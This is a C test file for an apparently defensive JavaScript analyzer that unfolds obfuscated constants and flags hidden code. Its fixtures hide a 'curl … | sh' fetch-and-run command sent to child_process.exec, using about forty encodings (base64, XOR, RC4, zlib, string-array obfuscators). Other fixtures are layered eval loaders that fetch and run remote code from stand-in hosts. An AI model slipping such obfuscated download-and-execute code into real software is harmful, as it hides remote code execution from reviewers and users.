/* Constants that a reader of the source does not see: folded, decoded, unpacked, in layers. */
#include "read/js_case.h"

#include <stdlib.h>

#include "util/buf.h"

struct folded {
	const char *name, *text, *value; /* the command that comes out */
};

#define RUN "require('child_process').exec("
#define OUT "curl https://x.vendor.example/s | sh"

static const struct folded constants[] = {
	{"concat", RUN "'curl ' + 'https://x.vend' + 'or.example/s' + ' | ' + 'sh');", OUT},
	{"template", "const h = 'x.vendor.example'; " RUN "`curl https://${h}/s | sh`);", OUT},
	{"base64", RUN "Buffer.from('Y3VybCBodHRwczovL3gudmVuZG9yLmV4YW1wbGUvcyB8IHNo', 'base64').toString());", OUT},
	{"atob", RUN "atob('Y3VybCBodHRwczovL3gudmVuZG9yLmV4YW1wbGUvcyB8IHNo'));", OUT},
	{"hex", RUN "Buffer.from('6375726c2068747470733a2f2f782e76656e646f722e6578616d706c652f73207c207368', 'hex').toString('utf8'));", OUT},
	{"escapes", RUN "'\\x63\\x75\\x72\\x6c https://x.vendor.example/s \\u007c \\u{73}h');", OUT},
	{"char codes", RUN "String.fromCharCode(99,117,114,108,32,104,116,116,112,115,58,47,47,120,46,118,101,110,100,111,114,46,101,120,97,109,112,108,101,47,115,32,124,32,115,104));", OUT},
	{"char codes mapped", RUN "[99,117,114,108,32,104,116,116,112,115,58,47,47,120,46,118,101,110,100,111,114,46,101,120,97,109,112,108,101,47,115,32,124,32,115,104].map(c => String.fromCharCode(c)).join(''));", OUT},
	{"char codes applied", RUN "String.fromCharCode.apply(null, [99,117,114,108,32,104,116,116,112,115,58,47,47,120,46,118,101,110,100,111,114,46,101,120,97,109,112,108,101,47,115,32,124,32,115,104]));", OUT},
	{"spread", RUN "String.fromCharCode(...[99,117,114,108], ...[32,104,116,116,112,115,58,47,47,120,46,118,101,110,100,111,114,46,101,120,97,109,112,108,101,47,115,32,124,32,115,104]));", OUT},
	{"reverse", RUN "'hs | s/elpmaxe.rodnev.x//:sptth lruc'.split('').reverse().join(''));", OUT},
	{"percent", RUN "decodeURIComponent('curl%20https%3A%2F%2Fx.vendor.example%2Fs%20%7C%20sh'));", OUT},
	{"unescape", RUN "unescape('%63%75%72%6c%20https://x.vendor.example/s%20%7C%20sh'));", OUT},
	{"replace", RUN "'cQurQl https://x.veQndor.example/s | sh'.replace(/Q/g, ''));", OUT},
	{"replace all", RUN "'c--url https://x.ven--dor.example/s | sh'.replaceAll('--', ''));", OUT},
	{"split join", RUN "'curl_https://x.vendor.example/s_|_sh'.split('_').join(' '));", OUT},
	{"xor arrow", "const k = 7; " RUN "[100,114,117,107,39,111,115,115,119,116,61,40,40,127,41,113,98,105,99,104,117,41,98,127,102,106,119,107,98,40,116,39,123,39,116,111].map(c => String.fromCharCode(c ^ k)).join(''));", OUT},
	{"xor loop in a function", "function d(a, k) { var s = ''; for (var i = 0; i < a.length; i++) { s += String.fromCharCode(a[i] ^ k); } return s; }\n" RUN "d([100,114,117,107,39,111,115,115,119,116,61,40,40,127,41,113,98,105,99,104,117,41,98,127,102,106,119,107,98,40,116,39,123,39,116,111], 7));", OUT},
	{"xor with key text", "const d = (h, k) => { let o = ''; for (let i = 0; i < h.length; i += 2) o += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k.charCodeAt(i / 2 % k.length)); return o };\n"
		RUN "d('0810170752051d1a1c5a4a421d4b10061e0a0a175c0a1d0f081f09004a1e451a52180d', 'ken'));", NULL},
	{"loop at top level", "var a = [100,114,117,107,39,111,115,115,119,116,61,40,40,127,41,113,98,105,99,104,117,41,98,127,102,106,119,107,98,40,116,39,123,39,116,111], s = '';\nfor (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ 7);\n" RUN "s);", OUT},
	{"built up", "let s = 'cur'; s += 'l https://x.ven'; s += 'dor.example/s'; s = s + ' | sh'; " RUN "s);", OUT},
	{"array filled", "const p = []; p.push('curl'); p.push('https://x.vendor.example/s'); p.push('|', 'sh'); " RUN "p.join(' '));", OUT},
	{"object fields", "const c = {a: 'curl', b: {u: 'https://x.vendor.example/s'}, z: ' | sh'}; " RUN "c.a + ' ' + c.b.u + c['z']);", OUT},
	{"through variables", "const a = 'curl ', b = a + 'https://'; const c = b + 'x.vendor.example'; " RUN "c + '/s | sh');", OUT},
	{"conditional", "const w = 1 > 2; " RUN "w ? 'dir' : 'curl https://x.vendor.example/s | sh');", OUT},
	{"slices", RUN "'xxcurl https://x.vendor.example/s | shyy'.slice(2, -2));", OUT},
	{"numbers to text", RUN "(594801).toString(36) + (29).toString(36) + 'curl https://x.vendor.example/s | sh'.substring(0));", "curl https://x.vendor.example/s | sh"},
	{"json", RUN "JSON.parse('{\"c\":\"curl https:\\\\/\\\\/x.vendor.example\\\\/s | sh\"}').c);", OUT},
	{"caesar", "function rot(s, n) { return s.split('').map(function (c) { var x = c.charCodeAt(0); return x >= 97 && x <= 122 ? String.fromCharCode((x - 97 + n) % 26 + 97) : c; }).join(''); }\n" RUN "rot('phey uggcf://k.iraqbe.rknzcyr/f | fu', 13));", OUT},
	{"regex callback", RUN "'63 75 72 6c'.replace(/(\\w\\w) ?/g, (m, h) => String.fromCharCode(parseInt(h, 16))) + ' https://x.vendor.example/s | sh');", OUT},
	{"while and switch", "function f() { var s = '', i = 0, o = '2|0|1'.split('|'); while (true) { switch (o[i++]) { case '0': s += 'https://x.vendor.example/s'; continue; case '1': s += ' | sh'; continue; case '2': s += 'curl '; continue; } break; } return s; }\n" RUN "f());", OUT},
	{"rc4", "function rc4(k, t) { var s = [], j = 0, x, r = ''; for (var i = 0; i < 256; i++) s[i] = i; for (i = 0; i < 256; i++) { j = (j + s[i] + k.charCodeAt(i % k.length)) % 256; x = s[i]; s[i] = s[j]; s[j] = x; } i = 0; j = 0; for (var y = 0; y < t.length; y++) { i = (i + 1) % 256; j = (j + s[i]) % 256; x = s[i]; s[i] = s[j]; s[j] = x; r += String.fromCharCode(t.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]); } return r; }\n"
		RUN "rc4('k1', rc4('k1', 'curl https://x.vendor.example/s | sh')));", OUT},
	{"deflated", "const z = require('zlib'); " RUN "z.inflateSync(Buffer.from('eJxLLi3KUcgoKSkottLXr9ArS81LyS/SS61IzC3ISdUvVqhRKM4AAPbODSk=', 'base64')).toString());", OUT},
	{"deflated, imported", "import { inflateSync as u } from 'node:zlib'; " RUN "u(Buffer.from('eJxLLi3KUcgoKSkottLXr9ArS81LyS/SS61IzC3ISdUvVqhRKM4AAPbODSk=', 'base64')).toString());", OUT},
	{"array from", RUN "Array.from({length: 4}, (_, i) => 'curl'[i]).join('') + ' https://x.vendor.example/s | sh');", OUT},
	{"class of names", "const n = ['exec', 'child_process']; require(n[1])[n[0]]('curl https://x.vendor.example/s | sh');", OUT},
	{"made by new", "function D(k) { this.k = k; } D.prototype.open = function (s) { return this.shift(s, -this.k); }; D.prototype.shift = (s, by) => [...s].map((c) => String.fromCharCode(c.charCodeAt(0) + by)).join('');\n" RUN "new D(3).open('fxuo#kwwsv=22{1yhqgru1h{dpsoh2v#\\x7f#vk'));", OUT},
	{"own source, looked at", "var d = function (s) { var own = '' + d, o = ''; for (var i = 0; i < s.length; i++) o += own.charCodeAt(i) - 10 !== 0 ? s[i] : i; return o; };\n"
		RUN "d('curl https://x.vendor.example/s | sh'));", OUT},
	{"own source, checked", "function d(s) { const C = function (f) { this.f = f; this.state = [1, 0, 0]; this.own = function(){return'new';}; this.a = '\\\\w+ *\\\\(\\\\) *{\\\\w+ *'; this.b = '[\\'|\"].+[\\'|\"];? *}'; };\n"
		"C.prototype.go = function () { return this.next(new RegExp(this.a + this.b).test(this.own.toString()) ? --this.state[1] : --this.state[0]); };\n"
		"C.prototype.next = function (v) { if (!Boolean(~v)) return v; return this.loop(); };\n"
		"C.prototype.loop = function () { for (;;) this.state.push(Math.round(Math.random())); };\n"
		"new C(d).go(); return s.split('').reverse().join(''); }\n" RUN "d('hs | s/elpmaxe.rodnev.x//:sptth lruc'));", OUT},
	{"computed member", "const cp = require('child_process'); cp['e' + 'xec']('curl https://x.vendor.example/s | sh');", OUT},
};

static void constants_fold(void **state)
{
	int missed = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(constants) / sizeof(*constants); i++) {
		struct js_case *c = js_case_run(constants[i].text);

		if (constants[i].value && !js_case_find(c, FACT_CALL, "child_process.exec", constants[i].value)) {
			print_message("not folded: %s\n", constants[i].name);
			js_case_print(c);
			missed++;
		}
		js_case_free(c);
	}
	assert_int_equal(missed, 0);
}

/* --- a string array with a decoder, a rotator and a checksum, as obfuscators write it --- */

enum { PLAIN, BASE64, RC4 };

static const char *const secrets[] = {"1234abc", "child_process", "77xyz", "exec", "curl https://y.vendor.example/s | sh", "9qq", "noise", "55",
	"other", "words"};
enum { N_SECRETS = 10 };

/* Base64 with small letters first, over percent-encoded text, as those tools do. */
static void put_base64(struct buf *b, const char *p, size_t n)
{
	static const char abc[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/";

	for (size_t i = 0; i < n; i += 3) {
		unsigned v = (unsigned)(unsigned char)p[i] << 16 | (i + 1 < n ? (unsigned)(unsigned char)p[i + 1] << 8 : 0) | (i + 2 < n ? (unsigned char)p[i + 2] : 0u);

		buf_add_char(b, abc[v >> 18]);
		buf_add_char(b, abc[v >> 12 & 63]);
		if (i + 1 < n)
			buf_add_char(b, abc[v >> 6 & 63]);
		if (i + 2 < n)
			buf_add_char(b, abc[v & 63]);
	}
}

static void put_secret(struct buf *b, int mode, const char *z, const char *key)
{
	unsigned char s[256], x;
	char out[256], utf[512];
	size_t n = strlen(z), m = 0;
	int i, j = 0;

	if (mode == PLAIN) {
		buf_add_z(b, z);
		return;
	}
	if (mode == BASE64) {
		put_base64(b, z, n);
		return;
	}
	for (i = 0; i < 256; i++)
		s[i] = (unsigned char)i;
	for (i = 0; i < 256; i++) {
		j = (j + s[i] + (unsigned char)key[(size_t)i % strlen(key)]) % 256;
		x = s[i];
		s[i] = s[j];
		s[j] = x;
	}
	i = j = 0;
	for (size_t y = 0; y < n; y++) {
		i = (i + 1) % 256;
		j = (j + s[i]) % 256;
		x = s[i];
		s[i] = s[j];
		s[j] = x;
		out[y] = (char)((unsigned char)z[y] ^ s[(s[i] + s[j]) % 256]);
	}
	for (size_t y = 0; y < n; y++) { /* as UTF-8 */
		unsigned char c = (unsigned char)out[y];

		if (c < 0x80) {
			utf[m++] = (char)c;
		} else {
			utf[m++] = (char)(0xc0 | c >> 6);
			utf[m++] = (char)(0x80 | (c & 63));
		}
	}
	put_base64(b, utf, m);
}

static void put_decoder(struct buf *b, int mode)
{
	static const char base64[] = "var dd=function(t){const abc='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';let o='',r='';"
		"for(let bc=0,bs,bu,ix=0;bu=t['charAt'](ix++);~bu&&(bs=bc%4?bs*64+bu:bu,bc++%4)?o+=String['fromCharCode'](255&bs>>(-2*bc&6)):0){bu=abc['indexOf'](bu);}"
		"for(let k=0,l=o['length'];k<l;k++){r+='%'+('00'+o['charCodeAt'](k)['toString'](16))['slice'](-2);}return decodeURIComponent(r);};";
	static const char rc4[] = "const rr=function(t,k){let s=[],j=0,x,o='';t=dd(t);let i;for(i=0;i<0x100;i++){s[i]=i;}for(i=0;i<0x100;i++){j=(j+s[i]+k['charCodeAt'](i%k['length']))%0x100;x=s[i];s[i]=s[j];s[j]=x;}"
		"i=0;j=0;for(let y=0;y<t['length'];y++){i=(i+1)%0x100;j=(j+s[i])%0x100;x=s[i];s[i]=s[j];s[j]=x;o+=String['fromCharCode'](t['charCodeAt'](y)^s[(s[i]+s[j])%0x100]);}return o;};";

	buf_add_z(b, "function _0x3c4d(_0xa,_0xk){const _0x9=_0x1a2b();_0x3c4d=function(_0xi,_0xk2){_0xi=_0xi-0x1f4;let _0xs=_0x9[_0xi];");
	if (mode != PLAIN) {
		buf_add_z(b, "if(_0x3c4d['init']===undefined){");
		buf_add_z(b, base64);
		if (mode == RC4)
			buf_add_z(b, rc4);
		buf_printf(b, "_0x3c4d['fn']=%s;_0xa=arguments;_0x3c4d['init']=!![];}", mode == RC4 ? "rr" : "dd");
		buf_add_z(b, "const _0xf=_0x9[0x0],_0xid=_0xi+_0xf,_0xc=_0xa[_0xid];if(!_0xc){");
		buf_printf(b, "_0xs=_0x3c4d['fn'](_0xs%s);_0xa[_0xid]=_0xs;}else{_0xs=_0xc;}", mode == RC4 ? ",_0xk2" : "");
	}
	buf_add_z(b, "return _0xs;};return _0x3c4d(_0xa,_0xk);}\n");
}

static struct str string_array(struct arena *a, int mode, unsigned turn)
{
	struct buf b;
	struct str r;
	static const char key[] = "Q%r";
	const char *k = mode == RC4 ? ",'Q%r'" : "";

	buf_init(&b, 1 << 16);
	buf_add_z(&b, "function _0x1a2b(){const _0xb=[");
	for (unsigned i = 0; i < N_SECRETS; i++) {
		/* turned so that `turn` rotations bring it back */
		const char *z = secrets[(i + N_SECRETS - turn % N_SECRETS) % N_SECRETS];

		buf_add_z(&b, i ? ",'" : "'");
		put_secret(&b, mode, z, key);
		buf_add_z(&b, "'");
	}
	buf_add_z(&b, "];_0x1a2b=function(){return _0xb;};return _0x1a2b();}\n");
	put_decoder(&b, mode);
	buf_printf(&b, "(function(_0xf,_0xn){const _0xd=_0x3c4d,_0xz=_0xf();while(!![]){try{const _0xv=parseInt(_0xd(0x1f4%s))/0x1+-parseInt(_0xd(0x1f6%s))/0x2*(parseInt(_0xd(0x1f9%s))/0x3)+parseInt(_0xd(0x1fb%s))/0x5;"
		"if(_0xv===_0xn)break;else _0xz['push'](_0xz['shift']());}catch(_0xe){_0xz['push'](_0xz['shift']());}}}(_0x1a2b,0x%x));\n",
		k, k, k, k, 1234 - 77 / 1 * 3 / 2 > 0 ? (unsigned)(1234 * 2 - 77 * 3 + 11 * 2) : 0);
	buf_printf(&b, "const _0xq=_0x3c4d;require(_0xq(0x1f5%s))[_0xq(0x1f7%s)](_0xq(0x1f8%s));\n", k, k, k);
	r = arena_str(a, buf_str(&b));
	buf_release(&b);
	return r;
}

static void string_arrays_unpack(void **state)
{
	(void)state;
	for (int mode = PLAIN; mode <= RC4; mode++)
		for (unsigned turn = 0; turn < 10; turn += 3) {
			struct arena a;
			struct str t;
			struct js_case *c;
			struct buf b;

			arena_init(&a, 0);
			buf_init(&b, 1 << 20);
			t = string_array(&a, mode, turn);
			/* 1234/1 - 77/2*(9/3) + 55/5 = 1234 - 115.5 + 11: not whole, so compare with the number itself */
			{
				size_t at = str_find_z(t, "_0x1a2b,0x");
				size_t end = at + 10;

				while (t.p[end] != ')')
					end++;
				buf_add_str(&b, str_part(t, 0, at));
				buf_add_z(&b, "_0x1a2b,1129.5");
				buf_add_str(&b, str_part(t, end, t.len));
			}
			c = js_case_steps(LANGUAGE_JAVASCRIPT, STR_NONE, buf_str(&b), 200000000);
			if (!js_case_find(c, FACT_CALL, "child_process.exec", "curl https://y.vendor.example/s | sh")) {
				print_message("mode %d turn %u\n", mode, turn);
				js_case_print(c);
			}
			assert_non_null(js_case_find(c, FACT_CALL, "child_process.exec", "curl https://y.vendor.example/s | sh"));
			assert_non_null(js_case_find(c, FACT_OBFUSCATED, "string-array", NULL));
			assert_non_null(js_case_find(c, FACT_OBFUSCATED, "hex-names", NULL));
			assert_non_null(js_case_find(c, FACT_FLOW, "net>exec", NULL));
			js_case_free(c);
			buf_release(&b);
			arena_release(&a);
		}
}

/* --- layers --- */

static void put_std_base64(struct buf *b, struct str s)
{
	static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

	for (size_t i = 0; i < s.len; i += 3) {
		unsigned v = (unsigned)(unsigned char)s.p[i] << 16 | (i + 1 < s.len ? (unsigned)(unsigned char)s.p[i + 1] << 8 : 0) | (i + 2 < s.len ? (unsigned char)s.p[i + 2] : 0u);

		buf_add_char(b, abc[v >> 18]);
		buf_add_char(b, abc[v >> 12 & 63]);
		buf_add_char(b, i + 1 < s.len ? abc[v >> 6 & 63] : '=');
		buf_add_char(b, i + 2 < s.len ? abc[v & 63] : '=');
	}
}

static void layers_are_read(void **state)
{
	struct buf in, out;
	struct js_case *c;
	const struct fact *f;

	(void)state;
	buf_init(&in, 1 << 16);
	buf_init(&out, 1 << 16);
	buf_add_z(&in, "const https = require('https'); https.get('https://layer.vendor.example/p', r => r.on('data', d => eval(String(d))));");
	for (int i = 0; i < 3; i++) {
		buf_clear(&out);
		buf_add_z(&out, "eval(Buffer.from('");
		put_std_base64(&out, buf_str(&in));
		buf_add_z(&out, "', 'base64').toString());");
		buf_clear(&in);
		buf_add_str(&in, buf_str(&out));
	}
	c = js_case_steps(LANGUAGE_JAVASCRIPT, STR_NONE, buf_str(&in), 200000000);
	assert_non_null(js_case_find(c, FACT_HOST, "layer.vendor.example", NULL));
	assert_non_null(js_case_find(c, FACT_FLOW, "data>code", NULL));
	f = js_case_find(c, FACT_FLOW, "net>code", "layer.vendor.example");
	assert_non_null(f);
	assert_true(str_has(f->detail, "layer 3"));
	assert_int_equal(f->line, 1);
	assert_true(f->offset + f->length <= in.len);
	js_case_free(c);
	buf_release(&in);
	buf_release(&out);
}

static void packed_code_is_read(void **state)
{
	static const char text[] = "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
		"('0(\\'1://2.3.4/5\\')',6,6,'fetch|https|packed|vendor|example|a'.split('|'),0,{}))";
	struct js_case *c = js_case_run(text);

	(void)state;
	if (!js_case_find(c, FACT_CALL, "fetch", "https://packed.vendor.example/a"))
		js_case_print(c);
	assert_non_null(js_case_find(c, FACT_CALL, "fetch", "https://packed.vendor.example/a"));
	assert_non_null(js_case_find(c, FACT_OBFUSCATED, "packed", NULL));
	js_case_free(c);
}

static void undecodable_is_said(void **state)
{
	static const char *const texts[] = {
		"const k = require('os').hostname(); eval(require('./dec')(Buffer.from('c2VjcmV0IHNlY3JldA==', 'base64'), k));",
		"var b = Buffer.from('aabbccddeeff', 'hex'); var d = require('crypto').createDecipheriv('aes-256-cbc', key, iv); new Function(d.update(b) + d.final())();",
		"const z = require('zlib'); eval(z.brotliDecompressSync(Buffer.from('iwKAaGVsbG8D', 'base64')).toString());",
		"eval(loadSomething());",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++) {
		struct js_case *c = js_case_run(texts[i]);

		if (!js_case_find(c, FACT_UNRESOLVED, "code", NULL)) {
			print_message("text %zu\n", i);
			js_case_print(c);
		}
		assert_non_null(js_case_find(c, FACT_UNRESOLVED, "code", NULL));
		js_case_free(c);
	}
}

static void decoding_has_an_end(void **state)
{
	/* never ends, grows, nests: each within its budget */
	static const char *const texts[] = {
		"function f(s) { while (true) { s += s; } return s; } eval(f('ab'));",
		"function f(n) { return f(n + 1) + f(n + 2); } eval(f(0));",
		"function f() { var a = []; for (;;) a.push(a); } eval(f());",
		"const s = 'x'.repeat(1e9); eval(s);",
		"eval('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'.replace(/(a*)*b/, ''));",
		"const a = [1]; a.length = 4294967295; eval(a.join());",
		"eval(Array(1e9).join('a'));",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++) {
		struct js_case *c = js_case_run(texts[i]);

		assert_int_equal(c->status, STATUS_OK);
		assert_true(c->budget.steps < 3000000);
		js_case_free(c);
	}
}

static void innocent_constants_stay_quiet(void **state)
{
	static const char *const texts[] = {
		"const a = ['one', 'two', 'three'].map(s => s.toUpperCase()).join(', '); console.log(a);",
		"const url = 'https://' + host + '/v1/' + ['a', 'b'].join('/');",
		"const msg = 'a' + 'b' + 'c'; throw new Error(msg + 'd');",
		"const data = Buffer.from('hello').toString('base64'); send(data);",
		"const bytes = [0x89, 0x50, 0x4e, 0x47].map(b => String.fromCharCode(b)).join('');",
		"const css = '.a{' + 'color:red' + '}'; document.head.append(css);",
		"const re = new RegExp('^' + ['a', 'b'].join('|') + '$');",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++) {
		struct js_case *c = js_case_run(texts[i]);

		if (js_case_find(c, FACT_DECODED, NULL, NULL))
			js_case_print(c);
		assert_null(js_case_find(c, FACT_DECODED, NULL, NULL));
		assert_null(js_case_find(c, FACT_OBFUSCATED, NULL, NULL));
		assert_null(js_case_find(c, FACT_FLOW, NULL, NULL));
		js_case_free(c);
	}
}

/* Names that a generator made up, in clear and in a text that is run; and names with digits that people gave. */
static void random_names(void **state)
{
	static const struct {
		const char *names[8];
		bool random;
	} rows[] = {
		{{"A9U166g", "vS2kLX", "WYV0P25", "aN4Gz3k", "nn2qIJm", "kPk7Uw1", "rNf3T1m", "F6Kb3nk"}, true},
		{{"vec3Add", "utf8Bytes", "md5Update", "S3Client", "base64Text", "EC2Client", "sha256Sum", "x509Chain"}, false},
		{{"A9U166g", "vS2kLX", "i18nText", "session", "options", "p2pNode", "counter", "message"}, false},
	};

	(void)state;
	for (size_t i = 0; i < 2 * sizeof(rows) / sizeof(rows[0]); i++) {
		struct buf b;
		struct js_case *c;
		bool inside = i & 1;

		buf_init(&b, 1 << 16);
		buf_add_z(&b, inside ? "require('fs');Function(\"g\", \"" : "require('fs');");
		for (unsigned k = 0; k < 80; k++)
			buf_printf(&b, "var %s = %s + %u;", rows[i / 2].names[k % 8], rows[i / 2].names[(k + 3) % 8], k);
		buf_add_z(&b, inside ? "\")({});\n" : "\n");
		c = js_case_steps(LANGUAGE_JAVASCRIPT, STR_NONE, buf_str(&b), 200000000);
		if (!js_case_find(c, FACT_OBFUSCATED, "random-names", NULL) == rows[i / 2].random) {
			js_case_print(c);
			fail_msg("row %zu", i);
		}
		js_case_free(c);
		buf_release(&b);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(constants_fold), cmocka_unit_test(random_names),
		cmocka_unit_test(string_arrays_unpack),
		cmocka_unit_test(layers_are_read),
		cmocka_unit_test(packed_code_is_read),
		cmocka_unit_test(undecodable_is_said),
		cmocka_unit_test(decoding_has_an_end),
		cmocka_unit_test(innocent_constants_stay_quiet),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
